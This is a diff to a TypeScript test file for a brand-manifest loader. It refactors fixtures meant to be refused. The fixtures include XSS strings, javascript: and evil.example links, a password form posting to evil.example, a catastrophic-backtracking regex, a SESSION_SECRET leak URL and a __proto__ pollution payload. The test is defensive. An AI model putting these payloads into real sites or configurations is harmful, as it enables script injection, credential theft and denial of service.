@@ -20,6 +20,25 @@ const texts = {
   'shell.skip': `</title>${inject}`,
   'login.title': `</script>${inject}`,
 };
+const insert = (entry: object) => ({ insert: [entry] });
+const banner = { id: 'b', group: 'w_home', motif: 'moon', linkageType: 'none' };
+const script = 'javascript:alert(1)';
+const pattern = { acceptedPattern: '(a+)+$', patternId: 'letter_first' };
+const entry = { id: 'evil', csType: 'VIP', csPosition: 'side', title: 'x', path: script };
+/** Each is refused for one reason. */
+const harmful: Readonly<Record<string, object>> = {
+  navhref: { nav: insert({ id: 'EVIL', href: script }) },
+  navscheme: { nav: insert({ id: 'EVIL', href: '//evil.example' }) },
+  target: { banners: insert({ ...banner, linkageType: 'url', target: script }) },
+  route: { banners: insert({ ...banner, linkageType: 'route', target: '//evil.example' }) },
+  service: { customerService: { entries: insert(entry) } },
+  regex: { register: { fields: insert({ id: 'username', ...pattern }) } },
+  secrets: { social: { facebook: 'https://x.example/${SESSION_SECRET}' } },
+  thief: { hosts: { player: ['words.localhost'] } },
+  heir: { hosts: { player: ['broken.localhost'] } },
+  pictures: {},
+  colours: { theme: { seeds: { primary: 'red;}</style><script>alert(1)</script>' } } },
+};
 
 let brands: MerchantsDir;
 let server: TestServer;
@@ -27,7 +46,7 @@ beforeAll(async () => {
   brands = makeMerchantsDir({
     'words/manifest.json': minimalManifest('words', {
       name: 'W"><img src=x onerror=alert(1)>',
-      banners: { insert: [{ id: 'b', group: 'w_home', motif: 'moon', linkageType: 'none' }] },
+      banners: insert(banner),
     }),
     'words/texts/EN.json': texts,
     'words/texts/TY.json': texts,
@@ -35,72 +54,14 @@ beforeAll(async () => {
     'words/content/TY/help.term.md': `# ${inject}\n\n<iframe srcdoc="${inject}"></iframe><form action="https://evil.example"><input name=password></form>`,
     'words/content/TY/notice.B.tonight.md': `# ${inject}\n\n${inject}`,
     'words/content/TY/promo.gift.event.join.md': `# ${inject}\n\n${inject}\n\n${inject}`,
-    // Each brand is refused for one reason.
-    'navhref/manifest.json': minimalManifest('navhref', {
-      nav: { insert: [{ id: 'EVIL', href: 'javascript:alert(1)' }] },
-    }),
-    'navscheme/manifest.json': minimalManifest('navscheme', {
-      nav: { insert: [{ id: 'EVIL', href: '//evil.example' }] },
-    }),
-    'target/manifest.json': minimalManifest('target', {
-      banners: {
-        insert: [
-          {
-            id: 'b',
-            group: 'w_home',
-            motif: 'moon',
-            linkageType: 'url',
-            target: 'javascript:alert(1)',
-          },
-        ],
-      },
-    }),
-    'route/manifest.json': minimalManifest('route', {
-      banners: {
-        insert: [
-          {
-            id: 'b',
-            group: 'w_home',
-            motif: 'moon',
-            linkageType: 'route',
-            target: '//evil.example',
-          },
-        ],
-      },
-    }),
-    'service/manifest.json': minimalManifest('service', {
-      customerService: {
-        entries: {
-          insert: [
-            {
-              id: 'evil',
-              csType: 'VIP',
-              csPosition: 'side',
-              title: 'x',
-              path: 'javascript:alert(1)',
-            },
-          ],
-        },
-      },
-    }),
-    'regex/manifest.json': minimalManifest('regex', {
-      register: {
-        fields: {
-          insert: [{ id: 'username', acceptedPattern: '(a+)+$', patternId: 'letter_first' }],
-        },
-      },
-    }),
-    'secrets/manifest.json': minimalManifest('secrets', {
-      social: { facebook: 'https://x.example/${SESSION_SECRET}' },
-    }),
-    'thief/manifest.json': minimalManifest('thief', { hosts: { player: ['words.localhost'] } }),
+    ...Object.fromEntries(
+      Object.entries(harmful).map(([code, change]) => [
+        `${code}/manifest.json`,
+        minimalManifest(code, change),
+      ]),
+    ),
     'broken/manifest.json': '{',
-    'heir/manifest.json': minimalManifest('heir', { hosts: { player: ['broken.localhost'] } }),
-    'pictures/manifest.json': minimalManifest('pictures'),
     'pictures/assets/live.svg': '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
-    'colours/manifest.json': minimalManifest('colours', {
-      theme: { seeds: { primary: 'red;}</style><script>alert(1)</script>' } },
-    }),
     'proto/manifest.json':
       '{"schemaVersion":1,"code":"proto","name":"P","extends":"_base","__proto__":{"admin":true},"constructor":{"prototype":{}}}',
   });
@@ -168,21 +129,7 @@ test('[WL-02] a harmful brand is refused by name, and no other one is', async ()
     brands: { serving: string[]; problems: { file: string; message: string }[] };
   };
   expect(state.serving).toEqual(['words']);
-  for (const code of [
-    'navhref',
-    'navscheme',
-    'target',
-    'route',
-    'service',
-    'regex',
-    'secrets',
-    'thief',
-    'broken',
-    'heir',
-    'pictures',
-    'colours',
-    'proto',
-  ]) {
+  for (const code of [...Object.keys(harmful), 'broken', 'proto']) {
     expect(
       state.problems.some(({ file }) => file.includes(code)),
       code,
